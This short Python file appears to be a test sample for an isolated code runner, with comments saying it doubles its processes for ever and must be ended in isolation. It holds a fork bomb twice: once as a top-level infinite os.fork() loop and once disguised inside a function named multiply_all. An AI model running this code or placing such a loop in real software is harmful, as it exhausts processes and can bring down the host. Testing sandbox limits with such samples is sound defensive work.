# Doubles its processes for ever.
#
# must: be ended, and leave none of them
# needs: isolation

# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


# %% multiply_all
def multiply_all(M, factors):
    while True:
        try:
            os.fork()
        except OSError:
            pass
